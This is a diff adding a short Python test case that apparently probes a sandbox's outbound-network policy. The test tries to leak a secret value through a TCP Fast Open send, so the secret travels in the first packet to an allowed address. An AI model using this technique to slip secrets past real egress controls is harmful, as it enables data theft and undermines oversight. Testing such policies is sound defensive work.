@@ -1,0 +1,20 @@
+# class: network
+# rule: outbound_connectivity
+# policy: shared.yaml
+# success: with the first packet to an allowed name's address goes what is no TLS
+# proof: word
+# needs: resolver
+import socket
+
+from attack import SECRET, at_allowed, attempt
+
+
+def say(place):
+    out = socket.socket()
+    out.sendto(SECRET.encode(), socket.MSG_FASTOPEN, place)
+    return out
+
+
+@attempt
+def send():
+    return at_allowed(say, first=False)
